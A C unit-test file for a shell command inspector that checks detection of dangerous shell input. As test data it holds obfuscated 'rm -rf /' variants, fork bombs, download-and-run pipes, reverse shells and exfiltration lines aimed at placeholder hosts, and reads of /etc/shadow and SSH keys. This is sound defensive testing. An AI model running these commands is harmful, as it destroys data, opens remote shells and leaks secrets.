/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The shell inspector: commands found however they are spelled and wherever they hide, text that is no command, words
 * folded from constants, strict mode, the entrance for other languages, and bounds on hostile text.
 * What bash really runs is compared in tests/shell-generator.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "base/str.h"
#include "inspect/judge.h"
#include "inspect_helpers.h"

static struct rule_set *rules;

static struct findings inspect(const char *text, size_t len, enum inspection level, bool strict)
{
	struct inspect_request req = {
		.kind = INSPECT_SHELL, .level = level, .text = text, .len = len, .strict_commands = strict
	};
	struct findings found = { 0 };

	assert_int_equal(inspect_text(rules, &req, &found, NULL), 0);
	return found;
}

struct row {
	const char *rule; /* NULL: nothing above MEDIUM */
	const char *code;
};

/* What a rule is for is asked where capabilities block too; what is let through, where most code is judged. */
static enum inspection level_of(const struct row *row)
{
	return row->rule ? INSPECTION_STRICT : INSPECTION_GUARD;
}

static void check_rows(const struct row *row, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct findings f = inspect(row[i].code, strlen(row[i].code), level_of(&row[i]), false);
		bool right = row[i].rule ? by_rule(&f, row[i].rule) != NULL : f.worst <= SEVERITY_MEDIUM;

		if (!right)
			print_error("wanted %s, worst is %s (%s):\n%s\n", row[i].rule ? row[i].rule : "nothing",
				    severity_name[f.worst], f.n ? f.row[0].rule : "no finding", row[i].code);
		findings_release(&f);
		assert_true(right);
	}
}

#define TREE        "sh-delete-tree"
#define CHECK(rows) check_rows(rows, ARRAY_LEN(rows))

static void test_spellings(void **state)
{
	static const struct row rows[] = {
		{ TREE, "rm -rf /" },
		{ TREE, "rm -r -f -- /" },
		{ TREE, "r''m -rf /" },
		{ TREE, "r\\m -rf /" },
		{ TREE, "$'\\x72\\155' -rf /" },
		{ TREE, "$\"rm\" -rf /" },
		{ TREE, "r\\\nm -rf /" },
		{ TREE, "{rm,-rf,/}" },
		{ TREE, "rm${IFS}-rf${IFS}/" },
		{ TREE, "r$@m -rf /" },
		{ TREE, "r${none}m -rf /" },
		{ TREE, "/usr/bin/rm -rf /" },
		{ TREE, "rm -rf //./etc/../" },
		{ TREE, "rm -rf $HOME" },
		{ TREE, "rm -rf \"$X\"/" },
		{ TREE, "rm --recur --for /" },
		{ "sh-globbed-command", "/bin/r? -rf /" },
		{ TREE, "cd / && rm -rf *" },
	};

	(void)state;
	CHECK(rows);
}

static void test_folding(void **state)
{
	static const struct row rows[] = {
		{ TREE, "a=r; a+=m; $a -rf /" },
		{ TREE, "a=(rm -rf /); \"${a[@]}\"" },
		{ TREE, "a=(x rm); ${a[1]} -rf /" },
		{ TREE, "set -- rm -rf /; \"$@\"" },
		{ TREE, "IFS=,; a=rm,-rf,/; $a" },
		{ TREE, "x=rm; y=x; ${!y} -rf /" },
		{ TREE, "declare -n r=x; x=rm; $r -rf /" },
		{ TREE, "x=RM; ${x,,} -rf /" },
		{ TREE, "x=xrm; ${x#x} -rf /" },
		{ TREE, "x=a/rm; ${x##*/} -rf /" },
		{ TREE, "x=rXm; ${x/X/} -rf /" },
		{ TREE, "x=abrmcd; ${x:2:2} -rf /" },
		{ TREE, "${x:-rm} -rf /" },
		{ TREE, "$(printf 'r%s' m) -rf /" },
		{ TREE, "$(echo mr | rev) -rf /" },
		{ TREE, "$(echo cm0= | base64 -d) -rf /" },
		{ TREE, "$(echo 726d | xxd -r -p) -rf /" },
		{ TREE, "$(echo sn | tr sn rm) -rf /" },
		{ TREE, "read x <<< rm; $x -rf /" },
		{ TREE, "printf -v x rm; $x -rf /" },
		{ TREE, "if y; then c=rm; else c=ls; fi; $c -rf /" },
		{ TREE, "for d in a /etc b; do rm -rf $d; done" },
		{ TREE, "f() { \"$@\"; }; f rm -rf /" },
		{ TREE, "f() { local x=$1; rm -rf $x; }; f /" },
		{ TREE, "f() { echo rm; }; $(f) -rf /" },
		{ NULL, "d=build; rm -rf $d" },
		{ NULL, "a=ls; $a" },
		{ "sh-dynamic-command", "$1 x" },
	};

	(void)state;
	CHECK(rows);
}

static void test_places(void **state)
{
	static const struct row rows[] = {
		{ TREE, "echo \"$(rm -rf /)\"" },
		{ TREE, "echo ${x:-`rm -rf /`}" },
		{ TREE, "echo ${x#$(rm -rf /)}" },
		{ TREE, "echo ${x/a/$(rm -rf /)}" },
		{ TREE, "echo ${x:$(rm -rf /):1}" },
		{ TREE, "echo `echo \\`rm -rf /\\``" },
		{ TREE, "cat <<E\n$(rm -rf /)\nE" },
		{ TREE, "cat << 'A' << B\n$(ls)\nA\n$(rm -rf /)\nB" },
		{ TREE, "cat <<E\n\\\nE\nrm -rf /" },
		{ TREE, "(( a[$(rm -rf /)] ))" },
		{ TREE, "echo $[ $(rm -rf /) ]" },
		{ TREE, "((rm -rf /); ls)" },
		{ TREE, "let 'a[$(rm -rf /)]=1'" },
		{ TREE, "[[ -v 'a[$(rm -rf /)]' ]]" },
		{ TREE, "[[ x =~ $(rm -rf /) ]]" },
		{ TREE, "case x in $(rm -rf /)) ;; esac" },
		{ TREE, "echo \"$(case x in x) rm -rf / ;; esac)\"" },
		{ TREE, "coproc X { rm -rf /; }" },
		{ TREE, "diff <(rm -rf /) x" },
		{ TREE, "true 2> \"$(rm -rf /)\"" },
		{ TREE, "x[$(rm -rf /)]=1" },
		{ TREE, "a='b[$(rm -rf /)]'; (( a ))" },
		{ TREE, "a='$(rm -rf /)'; echo ${a@P}" },
		{ TREE, "PS4='$(rm -rf /)'; set -x" },
		{ TREE, "trap 'rm -rf /' EXIT" },
		{ TREE, "alias x='rm -rf'; x /" },
		{ TREE, "echo a#b; rm -rf /" },
		{ TREE, "!(rm -rf /)" },
		{ TREE, "{ sh; } <<E\nrm -rf /\nE" },
	};

	(void)state;
	CHECK(rows);
}

static void test_wrappers(void **state)
{
	static const struct row rows[] = {
		{ TREE, "sudo -n env A=1 timeout -k 1 5 nice -n 3 rm -rf /" },
		{ TREE, "env -S 'rm -rf' /" },
		{ TREE, "exec -a foo rm -rf /" },
		{ TREE, "echo / | xargs rm -rf" },
		{ TREE, "xargs -I{} rm -rf {} <<< /" },
		{ TREE, "find / -exec rm -rf {} +" },
		{ TREE, "find . -exec sh -c 'rm -rf /' \\;" },
		{ TREE, "busybox sh -c 'rm -rf /'" },
		{ TREE, "su root -c 'rm -rf /'" },
		{ TREE, "flock l -c 'rm -rf /'" },
		{ TREE, "ssh -oProxyCommand='rm -rf /' x" },
		{ TREE, "git -c alias.x='!rm -rf /' x" },
		{ TREE, "vim -es +':!rm -rf /' +q" },
		{ TREE, "tar cf x y --checkpoint-action=exec='rm -rf /'" },
		{ TREE, "awk 'BEGIN{\"rm -rf /\" | getline}'" },
		{ TREE, "sed '1e rm -rf /' f" },
		{ TREE, "perl -e 'system(\"rm -rf /\")'" },
		{ TREE, "make SHELL='rm -rf /'" },
		{ TREE, "sh -c 'rm -rf \"$1\"' sh /" },
		{ TREE, "sh -c '$0 -rf /' rm" },
		{ TREE, "bash -o errexit -ec 'rm -rf /'" },
		{ NULL, "command -v rm" },
		{ NULL, "find . -name '*.o' | xargs rm -f" },
	};

	(void)state;
	CHECK(rows);
}

static void test_code_as_data(void **state)
{
	static const struct row rows[] = {
		{ TREE, "eval \"eval 'rm -rf /'\"" },
		{ TREE, "echo cm0gLXJmIC8= | base64 -d | sh" },
		{ TREE, "bash <<< \"rm -rf /\"" },
		{ TREE, "cat <<'E' | sh\nrm -rf /\nE" },
		{ TREE, "echo 'rm -rf /' > a; sh a" },
		{ TREE, "cat > a <<'E'\nrm -rf /\nE\n. ./a" },
		{ TREE, ". <(echo rm -rf /)" },
		{ "sh-dynamic-code", "eval \"$1\"" },
		{ "sh-dynamic-code", "tool | sh" },
		{ "sh-decoded-code", "base64 -d f | sh" },
		{ "sh-downloaded-code", "curl x.test | sudo bash -s" },
		{ "sh-downloaded-code", "{ curl x.test; } | sh" },
		{ "sh-downloaded-code", "curl -O http://x.test/a.sh; sh ./a.sh" },
		{ "sh-downloaded-code", "python3 <(curl http://x.test/a)" },
		{ "sh-partly-dynamic-code", "sh -c \"ls $1\"" },
		{ "sh-fork-bomb", ":(){ :|:& };:" },
		{ "sh-fork-bomb", "a(){ b & }; b(){ a & }; a" },
	};

	(void)state;
	CHECK(rows);
}

static void test_harmless(void **state)
{
	static const struct row rows[] = {
		{ NULL, "echo 'rm -rf /'" },
		{ NULL, "# rm -rf /\nls" },
		{ NULL, "grep -rn \"rm -rf /\" ." },
		{ NULL, "git commit -m \"fix shutdown race\"" },
		{ NULL, "cat > notes.md <<'EOF'\nNever run rm -rf / as root\nEOF" },
		{ NULL, "s=hello; i=1; echo \"${s:$i:1}\"" },
		{ NULL, "echo $(( (3 + 4) * 2 ))" },
		{ NULL, "[[ $x =~ ^(a|b)c$ ]] && echo ok" },
		{ NULL, "rm -rf ./build \"$TMPDIR/x\" /tmp/x" },
		{ NULL, "f() { if [ $1 -gt 0 ]; then f $(( $1 - 1 )); fi; }; f 3" },
		{ NULL, "for ((i=0;i<3;i++)); do echo ${a[i]}; done" },
		{ NULL, "sed -e 's/e/E/g' -n f | awk -F, '$3 > 5 {print $1}'" },
		{ NULL, "test -f /etc/passwd && echo yes" },
		{ NULL, "head -c 2 /dev/urandom | xxd -p > /dev/null 2>&1" },
		{ NULL, "case \"$1\" in start|stop) echo \"$1\";; *) echo usage;; esac" },
	};

	(void)state;
	CHECK(rows);
}

static void test_not_understood(void **state)
{
	static const struct row rows[] = {
		{ "sh-syntax", "echo \"abc" },
		{ "sh-syntax", "echo $(ls" },
		{ "sh-syntax", "if true; then ls" },
		{ "sh-syntax", "echo `ls" },
		{ "sh-syntax", "ls )" },
		{ "sh-syntax", "echo ${x" },
		{ "too-deep", "$($($($($($($($($($(ls))))))))))" },
	};

	(void)state;
	CHECK(rows);
}

static void test_strict(void **state)
{
	static const struct {
		const char *code, *rule;
	} rows[] = {
		{ "frobnicate", "sh-allowed" },
		{ "cat \"$1\"", "sh-strict-dynamic" },
		{ "ls | frobnicate", "sh-allowed" },
	};
	struct findings f;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		f = inspect(rows[i].code, strlen(rows[i].code), INSPECTION_GUARD, true);
		assert_non_null(by_rule(&f, rows[i].rule));
		findings_release(&f);
		f = inspect(rows[i].code, strlen(rows[i].code), INSPECTION_GUARD, false);
		assert_null(by_rule(&f, rows[i].rule));
		findings_release(&f);
	}
	f = inspect("ls -la | grep x", 15, INSPECTION_GUARD, true);
	assert_int_equal(f.n, 0);
}

/* strict_commands knows the tools of a project, and those that the policy lists; inspection strict only the latter. */
static void test_listed_commands(void **state)
{
	struct setting_list list = { 0 };
	struct inspect_request req = { .kind = INSPECT_SHELL, .level = INSPECTION_GUARD, .strict_commands = true };
	static const struct {
		const char *code;
		enum inspection level;
		bool listed, allowed;
	} rows[] = {
		{ "git status", INSPECTION_GUARD, false, true }, { "python3 x.py", INSPECTION_GUARD, false, true },
		{ "pytest -q", INSPECTION_GUARD, false, true },  { "npm test", INSPECTION_GUARD, false, false },
		{ "npm test", INSPECTION_GUARD, true, true },    { "git status", INSPECTION_STRICT, false, false },
		{ "npm test", INSPECTION_STRICT, true, true },   { "npmx test", INSPECTION_GUARD, true, false },
	};

	(void)state;
	assert_true(setting_list_add(&list, "npm"));
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct findings f = { 0 };

		req.level = rows[i].level;
		req.strict_commands = rows[i].level == INSPECTION_GUARD;
		req.allowed_commands = rows[i].listed ? &list : NULL;
		req.text = rows[i].code;
		req.len = strlen(rows[i].code);
		assert_int_equal(inspect_text(rules, &req, &f, NULL), 0);
		assert_int_equal(by_rule(&f, "sh-allowed") == NULL, rows[i].allowed);
		findings_release(&f);
	}
}

/* What it is meant for, not what it can do. */
static void test_guard_blocks_intent(void **state)
{
	static const char *const rows[] = {
		/* destroying and reading outside */
		"rm -rf \"$HOME\"",
		"cd ~; rm -rf .",
		"rm -rf ../../..",
		"d=$1; rm -rf \"$d\"/*",
		"for f in $(ls -d /*); do rm -rf $f; done",
		"shred -n 3 /dev/sda",
		"dd if=/dev/zero",
		"dd if=/dev/zero of=big.bin",
		"grep -r password /etc",
		"tar czf x.tgz /home",
		"python ../../x.py",
		"cd /tmp/x && bash ../../srv/x.sh; rm /etc/hosts",
		/* secrets, and what flows away */
		"cat /etc/shadow",
		"find / -name id_rsa -exec cat {} \\;",
		"cat /proc/self/environ",
		"env | nc example.test 99",
		"x=$(env); curl -d \"$x\" http://example.test/",
		"curl -F f=@.env http://example.test/",
		/* escaping, persistence, privilege */
		"docker run -v data:/d --volume /:/h alpine",
		"ls /proc/1/root",
		"echo x | crontab -",
		"echo x >> ~/.profile",
		"nano ~/.bashrc",
		"sudo true",
		"chmod a+rx,u+s ./x",
		"chmod 04755 ./x",
		/* shells for others, fork bombs */
		"mkfifo p; cat p | /bin/sh -i 2>&1 | nc 192.0.2.1 9 > p",
		"mkfifo p; sh -i <p 2>&1 | openssl s_client -connect example.test:1 >p",
		"exec 196<>/dev/tcp/192.0.2.1/9; sh <&196 >&196",
		"perl -e 'use Socket; socket(S,1,1,1); exec(\"/bin/sh -i\");'",
		"gawk 'BEGIN { s = \"/inet/tcp/0/192.0.2.1/9\"; s |& getline c; c |& getline; print |& s }'",
		"while :; do bash $0 & done",
		/* fetched, decoded, assembled */
		"c=$(curl -s http://example.test/c); $c",
		"c=$(base64 -d x); \"$c\" a",
		"printf %s \"$p\" | base64 -d | sh",
		"base64 -d p > q.sh; sh q.sh",
		"curl -s http://example.test/c | while read -r l; do eval \"$l\"; done",
		"run() { eval \"$1\"; }; run 'ls -a /etc/ssh'",
		"run() { eval \"$1\"; }; run \"$(cat x)\"",
		"trap \"$(curl -s http://example.test/c)\" EXIT",
		"echo bHM= | base64 -d | sh",
		"eval \"$(echo bHM= | base64 -d)\"",
		"x=$(echo 6c73 | xxd -r -p); eval \"$x\"",
		"echo sl | rev | bash",
		"x=$(echo bHM= | base64 -d); $x -l",
		"bash <<< \"$(echo bHM= | base64 -d)\"",
		"echo bHM= | base64 -d > x.sh; sh x.sh",
		"bash -c \"$(base64 -d <<< bHM=)\"",
		"eval \"$(ssh-agent; curl -s http://example.test/c)\"",
		"/bin/r? x",
		"unset HISTFILE",
		"kill -9 -1",
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct findings f = inspect(rows[i], strlen(rows[i]), INSPECTION_GUARD, false);

		if (f.worst != SEVERITY_CRITICAL)
			print_error("not blocked: %s\n", rows[i]);
		assert_int_equal(f.worst, SEVERITY_CRITICAL);
		findings_release(&f);
	}
}

static void test_guard_leaves_everyday_scripts_alone(void **state)
{
	static const struct row rows[] = {
		{ NULL, "here=$(cd \"$(dirname \"$0\")\" && pwd); . \"$here/lib.sh\"; cat \"$here/../README.md\"" },
		{ NULL, "PYTHON=${PYTHON:-python3}; \"$PYTHON\" -m pytest; $EDITOR notes.txt" },
		{ NULL, "for t in ls pwd date; do $t; done; for t in tests/*.sh; do \"$t\"; done" },
		{ NULL, "run() { echo \"+ $*\"; \"$@\"; }; run make -j4" },
		{ NULL, "check() { eval \"$2\" || echo \"bad: $1\"; }; check one '[ 1 -eq 1 ]'" },
		{ NULL, "t=$(mktemp -d); trap 'rm -rf \"$t\"' EXIT; cd \"$t\"; rm -rf \"$t\"/*" },
		{ NULL, "echo bHM= | base64 -d > a.txt; x=$(echo aGk= | base64 -d); echo \"$x\"; echo abc | rev" },
		{ NULL, "x=$(echo A-B | tr - _); echo \"$x\"" },
		{ NULL, "trap \"$f\" EXIT; trap \"rm -f $tmp\" INT; trap 'kill 0' TERM" },
		{ NULL, "rm -rf \"$(dirname \"$f\")\"/*; rm -rf \"$(git rev-parse --show-toplevel)\"/build/*" },
		{ NULL, "clean() { rm -rf \"$1\"/*; }; clean build" },
		{ NULL, "rm -rf \"${OUT:?}\"/*; rm -rf \"${BUILD:-build}\"/*" },
		{ NULL, "cd build && cmake .. && make; rm -rf ../dist" },
		{ NULL, "(cd sub && tar cf ../sub.tar .); cat sub.tar" },
		{ NULL, "for d in */; do cd \"$d\"; bash ../lint.sh; cd ..; done" },
		{ NULL, "sleep 9 & p=$!; kill -0 $p; kill $p; echo $! > x.pid; kill $(cat x.pid)" },
		{ NULL, "p=(); sleep 1 & p+=($!); for i in \"${p[@]}\"; do kill \"$i\"; done; kill $(jobs -p)" },
		{ NULL, "stop() { kill \"$1\"; }; sleep 9 & stop $!" },
		{ NULL, "grep -c processor /proc/cpuinfo; cat /proc/meminfo /proc/loadavg /etc/os-release" },
		{ NULL, "ls /usr/bin; ls /; file /bin/sh; df; ps aux; env; mount | grep tmpfs; fdisk -l" },
		{ NULL, "date -Iseconds; nmcli -t -f DEVICE dev status; ip addr; iptables -L" },
		{ NULL, "docker ps; kubectl get pods; docker exec -it web bash; docker run -v ./d:/d x" },
		{ NULL, "curl -s localhost:8000/health; wget -qO- http://127.0.0.1:80/; python3 -m http.server" },
		{ NULL, "cp .env.example .env; . ./.env; echo A=1 > .env; cat .env" },
		{ NULL, "git init --bare o.git; git clone o.git w; git config core.hooksPath .githooks" },
		{ NULL, "python3 --version; node --version; node --test; curl --version" },
		{ NULL, "chmod 444 a; chmod 400 key; chmod +x ./x; ENV=production ./x; LD_LIBRARY_PATH=./lib ./x" },
		{ NULL, "awk '{ printf \"%s (%d)\", $1, $2 | \"sort\" }' x; perl -e 'unlink \"x\"'" },
		{ NULL,
		  "eval \"v_$i=1\"; eval \"$(ssh-agent -s)\"; args=$(getopt ab -- \"$@\"); eval set -- \"$args\"" },
		{ NULL, ". ~/.bashrc; . ~/.cargo/env; crontab -l; dd if=a of=b; yes | head -2" },
		{ NULL, "openssl dgst -sha256 x; openssl rand -hex 8; echo x | base64 | base64 -d" },
	};

	(void)state;
	CHECK(rows);
}

/* A network that is not there is worth a line, and no more. */
static void test_guard_warns_of_the_network(void **state)
{
	static const char *const rows[] = {
		"curl -s http://example.test/x",
		"git clone https://example.test/x.git",
		"openssl s_client -connect example.test:1",
		"echo x | nc 127.0.0.1 53",
		"ping -c 1 example.test",
		"curl http://localhost.example.test/",
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct findings f = inspect(rows[i], strlen(rows[i]), INSPECTION_GUARD, false);

		assert_non_null(by_rule(&f, "sh-network"));
		assert_int_equal(f.worst, SEVERITY_HIGH);
		findings_release(&f);
	}
}

/* A finding inside a script is placed at its command; inside another text at that text. */
static void test_places_of_findings(void **state)
{
	static const char script[] = "ls\necho \"$(\n  rm -rf /\n)\"\n";
	struct findings f = inspect(script, sizeof(script) - 1, INSPECTION_GUARD, false);
	const struct finding *hit = by_rule(&f, TREE);

	(void)state;
	assert_non_null(hit);
	assert_int_equal(hit->line, 3);
	assert_int_equal(hit->column, 3);
	assert_int_equal(hit->span.end - hit->span.start, 8);
	findings_release(&f);
}

static void test_argv(void **state)
{
	static const char *const words[] = { "sudo", "rm", "-rf", NULL };
	static const bool literal[] = { true, true, true, false };
	static const char *const root[] = { "sh", "-c", "rm -rf /" };
	static const bool all[] = { true, true, true };
	struct findings f = { 0 };
	struct judge j = { .rules = rules,
			   .language = RULE_PYTHON,
			   .level = INSPECTION_GUARD,
			   .text = "subprocess.run(x)",
			   .len = 17,
			   .out = &f,
			   .steps_left = 100000 };

	(void)state;
	judge_argv(&j, words, literal, 4, (struct span){ 15, 16 });
	assert_null(by_rule(&f, TREE));
	assert_non_null(by_rule(&f, "sh-privilege"));
	judge_argv(&j, root, all, 3, (struct span){ 15, 16 });
	assert_non_null(by_rule(&f, TREE));
	assert_int_equal(by_rule(&f, TREE)->span.start, 15);
	assert_int_equal(j.language, RULE_PYTHON);
	assert_false(j.nested);
	findings_release(&f);
}

/* 250 KB of what opens and never closes: an answer, and never silence. */
static void test_hostile(void **state)
{
	static const char *const units[] = { "(",    "${",    "`$(",         "$(",
					     "$((",  "${a:-", "cat <<E\n$(", "case x in a) ",
					     "\"$(", "{ ",    "sudo ",       "a[b ",
					     "<(",   "@(",    "if ",         "f(){ " };
	static char text[250 * 1024];

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(units); i++) {
		size_t n = strlen(units[i]);
		struct findings f;

		for (size_t k = 0; k < sizeof(text); k++)
			text[k] = units[i][k % n];
		f = inspect(text, sizeof(text), INSPECTION_GUARD, false);
		if (f.worst < SEVERITY_HIGH)
			print_error("silent about %s\n", units[i]);
		assert_true(f.worst >= SEVERITY_HIGH);
		findings_release(&f);
	}
}

static int set_up(void **state)
{
	(void)state;
	return rules_builtin(&rules, NULL);
}

static int tear_down(void **state)
{
	(void)state;
	rules_free(rules);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_spellings),
		cmocka_unit_test(test_folding),
		cmocka_unit_test(test_places),
		cmocka_unit_test(test_wrappers),
		cmocka_unit_test(test_code_as_data),
		cmocka_unit_test(test_harmless),
		cmocka_unit_test(test_not_understood),
		cmocka_unit_test(test_strict),
		cmocka_unit_test(test_listed_commands),
		cmocka_unit_test(test_guard_blocks_intent),
		cmocka_unit_test(test_guard_leaves_everyday_scripts_alone),
		cmocka_unit_test(test_guard_warns_of_the_network),
		cmocka_unit_test(test_places_of_findings),
		cmocka_unit_test(test_argv),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
